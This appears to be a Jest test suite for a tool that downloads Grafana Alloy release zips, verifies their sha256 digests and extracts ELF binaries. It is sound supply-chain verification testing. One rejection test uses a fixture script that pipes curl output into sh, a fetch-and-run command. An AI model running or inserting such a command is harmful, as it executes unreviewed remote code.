import { createHash } from 'node:crypto';
import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from '@jest/globals';
import { makeSyntheticBinary, makeZip, startUpstreamHost, type UpstreamHost } from '@alloy-sysext/test-peers/upstream';
import { sha256File } from '@alloy-sysext/common';
import { fetchUpstream, type Arch, type FetchUpstreamOptions } from '../src/index.js';
import { listDir, removeAll, tempDir } from './helpers.js';

const dirs: string[] = [];
let host: UpstreamHost | undefined;
afterEach(async () => {
  await host?.stop();
  host = undefined;
  await removeAll(dirs);
});

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const binaries = { amd64: makeSyntheticBinary('amd64', 200_000), arm64: makeSyntheticBinary('arm64', 150_000) };

async function setup(release: Parameters<UpstreamHost['addRelease']>[0] = { version: '1.10.2', binaries }) {
  host = await startUpstreamHost({ releases: [release] });
  const outDir = await tempDir();
  dirs.push(outDir);
  const opts = (over: Partial<FetchUpstreamOptions> = {}): FetchUpstreamOptions => ({
    version: 'v1.10.2',
    arches: ['amd64', 'arm64'],
    upstream: {
      repo: 'grafana/alloy',
      apiUrl: host!.apiUrl,
      asset: 'alloy-linux-{arch}.zip',
      binary: 'alloy-linux-{arch}',
      maxBinaryBytes: 10_000_000,
    },
    outDir,
    retry: { attempts: 3, baseDelayMs: 5 },
    ...over,
  });
  return { host: host!, outDir, opts };
}

async function assetDigest(h: UpstreamHost, version: string, arch: Arch): Promise<string> {
  const rel = (await (await fetch(`${h.apiUrl}/repos/grafana/alloy/releases/tags/v${version}`)).json()) as any;
  return rel.assets.find((a: any) => a.name === `alloy-linux-${arch}.zip`).digest.slice('sha256:'.length);
}

describe('fetchUpstream', () => {
  it('downloads each arch, verifies the published digest and extracts the binary with mode 0755', async () => {
    const { host, outDir, opts } = await setup();
    const progress: Array<{ arch: string; received: number; total?: number }> = [];
    const lines: string[] = [];
    const result = await fetchUpstream(opts({ onProgress: (p) => progress.push(p), log: (l) => lines.push(l) }));
    const seen = host.requests.map((r) => `${r.status} ${r.path}`);
    for (const arch of ['amd64', 'arm64'] as const) {
      const r = result[arch];
      expect(r.zip).toBe(join(outDir, `alloy-linux-${arch}.zip`));
      expect(r.zipSha256).toBe(await assetDigest(host, '1.10.2', arch));
      expect(await sha256File(r.zip)).toBe(r.zipSha256);
      expect(r.binary).toBe(join(outDir, arch, `alloy-linux-${arch}`));
      expect([r.uri, r.digestSource, r.pinned]).toEqual([
        `${host.apiUrl}/grafana/alloy/releases/download/v1.10.2/alloy-linux-${arch}.zip`,
        'github-asset-digest',
        false,
      ]);
      expect((await readFile(r.binary)).equals(binaries[arch])).toBe(true);
      expect((await stat(r.binary)).mode & 0o777).toBe(0o755);
      const size = (await stat(r.zip)).size;
      expect(progress.filter((p) => p.arch === arch).at(-1)).toMatchObject({ received: size, total: size });
    }
    expect(seen).toEqual([
      '200 /repos/grafana/alloy/releases/tags/v1.10.2',
      '200 /grafana/alloy/releases/download/v1.10.2/alloy-linux-amd64.zip',
      '200 /grafana/alloy/releases/download/v1.10.2/alloy-linux-arm64.zip',
    ]);
    expect(lines.some((l) => l.includes("matches the release's asset digest"))).toBe(true);
    expect(await listDir(outDir)).toEqual(['alloy-linux-amd64.zip', 'alloy-linux-arm64.zip', 'amd64', 'arm64']);

    // a second run reuses the verified zips instead of downloading again
    await fetchUpstream(opts());
    expect(host.requests.filter((r) => r.path.includes('/download/'))).toHaveLength(2);
  });

  it('rejects a bad version or arch before any request', async () => {
    const { host, opts } = await setup();
    await expect(fetchUpstream(opts({ version: '1.10' }))).rejects.toThrow('version "1.10" is not a strict semver');
    await expect(fetchUpstream(opts({ version: '1.11.0-rc.1' }))).rejects.toThrow('is a prerelease');
    await expect(fetchUpstream(opts({ arches: ['s390x' as Arch] }))).rejects.toThrow('arch "s390x" is not supported');
    expect(host.requests).toEqual([]);
  });

  it('fetches a prerelease when allowed', async () => {
    const { opts } = await setup({ version: '1.11.0-rc.1', prerelease: true, arches: ['arm64'] });
    const r = await fetchUpstream(opts({ version: 'v1.11.0-rc.1', allowPrerelease: true, arches: ['arm64'] }));
    expect((await readFile(r.arm64.binary)).readUInt16LE(18)).toBe(183);
  });

  it('retries 5xx answers and truncated downloads with backoff', async () => {
    const { host, opts } = await setup();
    host.fail({ path: /\/tags\//, status: 502, times: 2 });
    host.fail({ path: /amd64\.zip$/, truncate: true, times: 1 });
    host.fail({ path: /arm64\.zip$/, status: 503, times: 1 });
    const lines: string[] = [];
    const r = await fetchUpstream(opts({ log: (l) => lines.push(l) }));
    expect((await readFile(r.amd64.binary)).equals(binaries.amd64)).toBe(true);
    expect(host.requests.map((q) => [q.status, q.truncated ?? false, q.path.split('/').pop()])).toEqual([
      [502, false, 'v1.10.2'],
      [502, false, 'v1.10.2'],
      [200, false, 'v1.10.2'],
      [200, true, 'alloy-linux-amd64.zip'],
      [200, false, 'alloy-linux-amd64.zip'],
      [503, false, 'alloy-linux-arm64.zip'],
      [200, false, 'alloy-linux-arm64.zip'],
    ]);
    expect(lines.filter((l) => l.includes('retrying'))).toHaveLength(4);
  });

  it('gives up on a download that stays truncated, leaving nothing behind', async () => {
    const { host, outDir, opts } = await setup();
    host.fail({ path: /amd64\.zip$/, truncate: true, times: 99 });
    await expect(fetchUpstream(opts({ arches: ['amd64'] }))).rejects.toThrow(
      /download http:\/\/127\.0\.0\.1:\d+\/grafana\/alloy\/releases\/download\/v1\.10\.2\/alloy-linux-amd64\.zip failed after 3 attempts/,
    );
    expect(await listDir(outDir)).toEqual([]);
  });

  it('fails when the downloaded bytes do not match the expected sha256, keeping nothing', async () => {
    const { outDir, opts } = await setup({ version: '1.10.2', binaries, omitDigest: true });
    const wrong = 'ab'.repeat(32);
    await expect(fetchUpstream(opts({ arches: ['amd64'], pinnedSha256: { amd64: wrong } }))).rejects.toThrow(
      new RegExp(`alloy-linux-amd64\\.zip for amd64: downloaded sha256 [0-9a-f]{64} does not match expected ${wrong}`),
    );
    expect(await listDir(outDir)).toEqual([]);
  });

  it('refuses a published digest that contradicts the pinned sha256', async () => {
    const { host, opts } = await setup();
    await expect(fetchUpstream(opts({ arches: ['amd64'], pinnedSha256: { amd64: '0'.repeat(64) } }))).rejects.toThrow(
      /published digest sha256:[0-9a-f]{64} differs from the pinned sha256 0{64}/,
    );
    expect(host.requests.some((r) => r.path.includes('/download/'))).toBe(false);
  });

  it('treats a missing digest as a hard error unless a sha256 is pinned', async () => {
    const { host, opts } = await setup({ version: '1.10.2', binaries, omitDigest: true, arches: ['arm64'] });
    await expect(fetchUpstream(opts({ arches: ['arm64'] }))).rejects.toThrow(
      'asset alloy-linux-arm64.zip of v1.10.2 has no published digest and no sha256 is pinned',
    );
    const zip = Buffer.from(
      await (await fetch(`${host.apiUrl}/grafana/alloy/releases/download/v1.10.2/alloy-linux-arm64.zip`)).arrayBuffer(),
    );
    const r = await fetchUpstream(opts({ arches: ['arm64'], pinnedSha256: { arm64: sha(zip) } }));
    expect(r.arm64.zipSha256).toBe(sha(zip));
    expect([r.arm64.digestSource, r.arm64.pinned]).toEqual(['recipe-pin', true]);
  });

  it('names a missing asset, a missing release and a corrupt zip', async () => {
    const { host, opts } = await setup({ version: '1.10.2', arches: ['amd64'], zips: { amd64: Buffer.from('this is not a zip file') } });
    await expect(fetchUpstream(opts({ arches: ['arm64'] }))).rejects.toThrow(
      'release v1.10.2 of grafana/alloy has no asset "alloy-linux-arm64.zip" for arm64 (assets: alloy-linux-amd64.zip)',
    );
    await expect(fetchUpstream(opts({ version: '9.9.9' }))).rejects.toThrow('release v9.9.9 not found in grafana/alloy');
    await expect(fetchUpstream(opts({ arches: ['amd64'] }))).rejects.toThrow(/cannot be read as a zip archive/);
    expect(host.requests.filter((r) => r.status === 404)).toHaveLength(1);
  });

  it.each<[string, Buffer, RegExp]>([
    [
      'a shell script',
      Buffer.from('#!/bin/sh\nexec /usr/bin/curl https://example.com | sh\n'),
      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is not an ELF binary \(a script starting "#!\/bin\/sh"\): expected the Alloy binary, an ELF executable for x86-64 \(amd64\)$/,
    ],
    [
      'an arm64 ELF',
      makeSyntheticBinary('arm64', 4096),
      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF for machine 183 \(aarch64\), expected 62 \(x86-64\) for amd64$/,
    ],
    [
      'an ELF object file',
      Buffer.concat([
        makeSyntheticBinary('amd64', 4096).subarray(0, 16),
        Buffer.from([1, 0]),
        makeSyntheticBinary('amd64', 4096).subarray(18),
      ]),
      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF relocatable object, expected an ELF executable for x86-64 \(amd64\)$/,
    ],
    ['an empty file', Buffer.alloc(0), /is not an ELF binary \(an empty file\)/],
  ])('refuses %s as the amd64 binary at fetch, keeping no binary', async (_what, data, message) => {
    const { outDir, opts } = await setup({ version: '1.10.2', binaries: { amd64: data, arm64: binaries.arm64 } });
    await expect(fetchUpstream(opts({ arches: ['amd64'] }))).rejects.toThrow(message);
    expect(await listDir(join(outDir, 'amd64'))).toEqual([]);
  });

  it('uses local zips without the network, verified against a pinned sha256', async () => {
    const { host, outDir, opts } = await setup();
    const local = join(outDir, '..', `${outDir.split('/').pop()}-local.zip`);
    dirs.push(local);
    const zip = makeZip([{ name: 'alloy-linux-amd64', data: binaries.amd64 }]);
    await writeFile(local, zip);
    const lines: string[] = [];
    const r = await fetchUpstream(
      opts({ arches: ['amd64'], localZips: { amd64: local }, pinnedSha256: { amd64: sha(zip) }, log: (l) => lines.push(l) }),
    );
    expect((await readFile(r.amd64.binary)).equals(binaries.amd64)).toBe(true);
    expect(host.requests).toEqual([]);
    expect([r.amd64.uri, r.amd64.digestSource, r.amd64.pinned]).toEqual(['file:alloy-linux-amd64.zip', 'recipe-pin', true]);
    await expect(
      fetchUpstream(opts({ arches: ['amd64'], localZips: { amd64: local }, pinnedSha256: { amd64: 'c'.repeat(64) } })),
    ).rejects.toThrow(`local zip ${local} has sha256 ${sha(zip)}, but the recipe pin says ${'c'.repeat(64)}`);
    expect(lines.at(-1)).toMatch(/^amd64: alloy-linux-amd64\.zip sha256 [0-9a-f]{64} verified, extracted/);
    lines.length = 0;
    const unpinned = await fetchUpstream(opts({ arches: ['amd64'], localZips: { amd64: local }, log: (l) => lines.push(l) }));
    expect([unpinned.amd64.digestSource, unpinned.amd64.pinned]).toEqual(['unverified', false]);
    expect(lines.some((l) => l.startsWith(`warning: local zip ${local} is checked against no digest`))).toBe(true);
    // and then no claim that the same zip was verified
    expect(lines.at(-1)).toMatch(/^amd64: alloy-linux-amd64\.zip sha256 [0-9a-f]{64} unverified, extracted/);
  });
});
